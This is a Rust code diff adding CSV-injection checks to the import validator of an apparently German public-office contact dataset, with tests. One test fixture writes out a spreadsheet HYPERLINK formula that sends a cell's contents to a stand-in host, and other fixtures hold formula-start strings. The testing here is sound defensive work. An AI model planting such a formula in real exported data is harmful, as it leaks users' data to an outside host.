@@ -4,7 +4,13 @@
 //! Top-level keys are `regions`, `services`, `contacts` and `postcodes`. Channels, hours and
 //! addresses use the wire types, so the JSON a Redaktion imports looks like what the widget
 //! receives. Every field is written on export (defaults included), so export → import → export
-//! gives the same bytes. The CSV variants live in [`csv`](self::csv).
+//! gives the same bytes. The CSV variants live in [`csv`].
+//!
+//! Exported CSV ends up in spreadsheet programs, which run a cell that begins with `=`, `+`,
+//! `-` or `@` as a formula (OWASP: "CSV injection"). So free text — names, labels, notes,
+//! street and city — must not begin like that (`looks_like_formula`), and e-mail addresses
+//! must not either; phone numbers and keys are checked by their own, narrower rules and keep
+//! their `+` and `-`. The rule sits in [`Dataset::validate`], which every import runs.
 
 pub mod csv;
 
@@ -206,6 +212,7 @@ impl Dataset {
                 Err(e) => v.push(at("ars"), e.to_string()),
             }
             v.not_blank(at("name"), &r.name);
+            v.plain_text(at("name"), &r.name);
         }
 
         let mut services = known.services.clone();
@@ -222,16 +229,13 @@ impl Dataset {
                 Err(e) => v.push(at("leika"), e.to_string()),
             }
             v.not_blank(at("name"), &s.name);
+            v.plain_text(at("name"), &s.name);
         }
 
         let mut ids = HashSet::new();
         for (i, c) in self.contacts.iter().enumerate() {
             let at = |field: &str| format!("contacts[{i}].{field}");
-            if c.id.is_empty()
-                || !c.id.bytes().all(|b| {
-                    b.is_ascii_lowercase() || b.is_ascii_digit() || matches!(b, b'-' | b'_' | b'.')
-                })
-            {
+            if !is_contact_id(&c.id) {
                 v.push(
                     at("id"),
                     format!(
@@ -243,6 +247,7 @@ impl Dataset {
                 v.push(at("id"), format!("`{}` is used by two contacts", c.id));
             }
             v.not_blank(at("name"), &c.name);
+            v.plain_text(at("name"), &c.name);
             match c.region.parse::<Ars>() {
                 Ok(ars) if !regions.contains(&ars) => v.push(
                     at("region"),
@@ -273,6 +278,9 @@ impl Dataset {
                 v.push(at("channels"), "a contact needs at least one channel");
             }
             for (j, ch) in c.channels.iter().enumerate() {
+                if let Some(label) = &ch.label {
+                    v.plain_text(at(&format!("channels[{j}].label")), label);
+                }
                 if let Err(reason) = check_channel(ch) {
                     v.push(at(&format!("channels[{j}].value")), reason);
                 }
@@ -294,6 +302,9 @@ impl Dataset {
                         &r.opens,
                         &r.closes,
                     );
+                }
+                if let Some(note) = &e.note {
+                    v.plain_text(at(&format!("exceptions[{j}].note")), note);
                 }
             }
             for (j, lang) in c.languages.iter().enumerate() {
@@ -317,7 +328,9 @@ impl Dataset {
                     );
                 }
                 v.not_blank(at("address.street"), &address.street);
+                v.plain_text(at("address.street"), &address.street);
                 v.not_blank(at("address.city"), &address.city);
+                v.plain_text(at("address.city"), &address.city);
             }
         }
 
@@ -354,6 +367,20 @@ impl Validator {
     fn not_blank(&mut self, place: String, value: &str) {
         if value.trim().is_empty() {
             self.push(place, "must not be empty");
+        }
+    }
+
+    /// Free text must not be run as a formula where the CSV export is opened.
+    fn plain_text(&mut self, place: String, text: &str) {
+        if looks_like_formula(text) {
+            self.push(
+                place,
+                format!(
+                    "`{}` would be run as a formula by spreadsheet programs: text must not begin \
+                     with =, +, - or @ (not even after spaces), nor with a tab or line break",
+                    shown(text)
+                ),
+            );
         }
     }
 
@@ -401,11 +428,53 @@ fn level_fits(ars: Ars, level: RegionLevel) -> Result<(), String> {
     }
 }
 
+/// Whether a spreadsheet program would take a cell with this text for a formula: it begins
+/// with `=`, `+`, `-` or `@` — also after spaces, which some programs skip — or with a tab or
+/// carriage return (the characters OWASP lists for CSV injection).
+fn looks_like_formula(text: &str) -> bool {
+    text.starts_with(['\t', '\r']) || text.trim_start().starts_with(['=', '+', '-', '@'])
+}
+
+/// A value as quoted in a problem: control characters visible (`\t`), long text shortened.
+fn shown(text: &str) -> String {
+    const MAX: usize = 60;
+    let visible: String = text.escape_debug().collect();
+    match visible.char_indices().nth(MAX) {
+        Some((end, _)) => format!("{}…", &visible[..end]),
+        None => visible,
+    }
+}
+
+/// Contact ids: lowercase letters, digits, `-`, `_` and `.` — nothing a formula could call.
+fn is_contact_id(id: &str) -> bool {
+    !id.is_empty()
+        && id.bytes().all(|b| {
+            b.is_ascii_lowercase() || b.is_ascii_digit() || matches!(b, b'-' | b'_' | b'.')
+        })
+}
+
+/// Digits, spaces and `+ - / ( )` only, with at least three digits: `+49 421 361-0`.
+fn is_phone_number(value: &str) -> bool {
+    let digits = value.bytes().filter(u8::is_ascii_digit).count();
+    digits >= 3
+        && value
+            .chars()
+            .all(|c| c.is_ascii_digit() || " +-/()".contains(c))
+}
+
 fn is_plz(s: &str) -> bool {
     s.len() == 5 && s.bytes().all(|b| b.is_ascii_digit())
 }
 
 fn check_email(value: &str) -> Result<(), String> {
+    // Legal in a local part, but a spreadsheet would run `=1+1@…` as a formula, and `'` is
+    // what the CSV export puts before such an address from older data (see `csv`).
+    if let Some(first) = value.chars().next().filter(|c| "=+-'".contains(*c)) {
+        return Err(format!(
+            "`{value}` begins with `{first}`: an e-mail address must not begin with =, + or - \
+             (spreadsheet programs would run it as a formula), nor with '"
+        ));
+    }
     let ok = value
         .split_once('@')
         .is_some_and(|(local, domain)| !local.is_empty() && domain.contains('.'))
@@ -423,11 +492,7 @@ fn check_channel(channel: &Channel) -> Result<(), String> {
     let value = channel.value.as_str();
     match channel.kind {
         ChannelKind::Phone | ChannelKind::Mobile | ChannelKind::Fax => {
-            let digits = value.bytes().filter(u8::is_ascii_digit).count();
-            let allowed = value
-                .chars()
-                .all(|c| c.is_ascii_digit() || " +-/()".contains(c));
-            if allowed && digits >= 3 {
+            if is_phone_number(value) {
                 Ok(())
             } else {
                 Err(format!(
@@ -535,6 +600,89 @@ mod tests {
         let err =
             Dataset::from_json(r#"{"regions": [], "kontakte": []}"#).expect_err("unknown key");
         assert!(err.reason.contains("kontakte"), "{err}");
+    }
+
+    /// A small data set with every free-text field filled: one Land, one service, one contact.
+    fn one_contact() -> Dataset {
+        Dataset::from_json(
+            r#"{
+  "regions": [{"ars": "040000000000", "name": "Freie Hansestadt Bremen", "level": "land"}],
+  "services": [{"leika": "99041006017000", "name": "Elterngeld Bewilligung"}],
+  "contacts": [{
+    "id": "-buergeramt.bremen", "name": "Bürgeramt Bremen-Mitte", "level": "first",
+    "region": "040000000000",
+    "channels": [
+      {"kind": "phone", "value": "+49 421 361-0", "label": "Zentrale (+49 421)"},
+      {"kind": "fax", "value": "-0421 361 1"},
+      {"kind": "email", "value": "buergeramt@example.bremen.de", "label": "E-Mail @ Bürgeramt"}
+    ],
+    "exceptions": [{"date": "2026-12-24", "note": "Heiligabend – geschlossen"}],
+    "address": {"street": "Am Markt 1", "postcode": "28195", "city": "Bremen"},
+    "mailbox": "buergeramt@example.bremen.de"
+  }]
+}"#,
+        )
+        .expect("test data parses")
+    }
+
+    #[test]
+    fn phone_numbers_keys_and_text_with_formula_characters_inside_stay_valid() {
+        assert_eq!(one_contact().validate(&KnownKeys::default()), Ok(()));
+    }
+
+    #[test]
+    fn free_text_a_spreadsheet_would_run_as_a_formula_is_refused_with_its_place() {
+        let mut data = one_contact();
+        data.regions[0].name = r#"=HYPERLINK("https://example.invalid/?d="&A2;"Bremen")"#.into();
+        data.services[0].name = "+Elterngeld".into();
+        let contact = &mut data.contacts[0];
+        contact.name = "@SUMME(1;2)".into();
+        contact.channels[0].label = Some("-1+1".into());
+        contact.channels[2].value = "=1+1@example.bremen.de".into();
+        contact.exceptions[0].note = Some("\t=1+1".into());
+        contact.mailbox = Some("-info@example.bremen.de".into());
+        let address = contact.address.as_mut().expect("test data has an address");
+        address.street = "  =1+1".into();
+        address.city = "\rBremen".into();
+        let problems = data
+            .validate(&KnownKeys::default())
+            .expect_err("nine formulas");
+        let places: Vec<_> = problems.iter().map(|p| p.place.as_str()).collect();
+        assert_eq!(
+            places,
+            [
+                "regions[0].name",
+                "services[0].name",
+                "contacts[0].name",
+                "contacts[0].channels[0].label",
+                "contacts[0].channels[2].value",
+                "contacts[0].exceptions[0].note",
+                "contacts[0].mailbox",
+                "contacts[0].address.street",
+                "contacts[0].address.city",
+            ]
+        );
+        // The reason quotes the text (tabs and line breaks made visible) and says why.
+        assert!(
+            problems[2].reason.contains("`@SUMME(1;2)`"),
+            "{}",
+            problems[2]
+        );
+        assert!(problems[2].reason.contains("formula"), "{}", problems[2]);
+        assert!(problems[5].reason.contains(r"`\t=1+1`"), "{}", problems[5]);
+        assert!(problems[6].reason.contains("formula"), "{}", problems[6]);
+    }
+
+    #[test]
+    fn a_tab_or_carriage_return_at_the_start_of_free_text_is_refused_even_before_a_word() {
+        for name in ["\tBürgeramt", "\rBürgeramt", " \t=1+1", "\u{a0}-1"] {
+            let mut data = one_contact();
+            data.contacts[0].name = name.into();
+            let problems = data
+                .validate(&KnownKeys::default())
+                .expect_err("a formula start");
+            assert_eq!(problems[0].place, "contacts[0].name", "{name:?}");
+        }
     }
 
     #[test]
